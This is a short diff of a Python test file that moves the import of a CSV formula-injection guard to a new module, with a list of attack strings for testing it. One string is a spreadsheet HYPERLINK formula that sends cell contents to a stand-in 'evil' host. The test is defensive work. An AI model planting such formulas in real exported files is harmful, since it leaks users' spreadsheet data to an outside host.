@@ -14,7 +14,8 @@ import pandas as pd
 import pyarrow.parquet as pq
 import pytest
 
-from dashboard.exports import GUARD, formula_safe, to_bytes
+from dashboard.exports import to_bytes
+from storage.csvsafe import GUARD, formula_safe
 
 ATTACKS = [
     '=HYPERLINK("http://evil/?"&A1,"click")',
